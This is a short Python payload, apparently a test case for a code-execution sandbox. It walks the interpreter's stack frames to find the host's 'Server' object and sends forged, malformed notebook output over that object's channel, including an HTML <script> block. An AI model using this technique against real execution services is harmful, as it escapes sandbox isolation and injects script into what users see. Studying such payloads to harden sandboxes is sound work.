import json, sys

_f = sys._getframe()
while _f:
    for _v in list(_f.f_locals.values()):
        if type(_v).__name__ == "Server":
            _v.wire.send(
                b"SBXA",
                json.dumps(
                    {
                        "outputs": [
                            {
                                "output_type": "display_data",
                                "data": {"text/html": "<script>ACTS()</script>"},
                                "metadata": {},
                            },
                            {"output_type": "nada", "text": ["x"]},
                        ],
                        "count": -1,
                        "next": "x",
                        "raised": None,
                    }
                ).encode(),
            )
    _f = _f.f_back
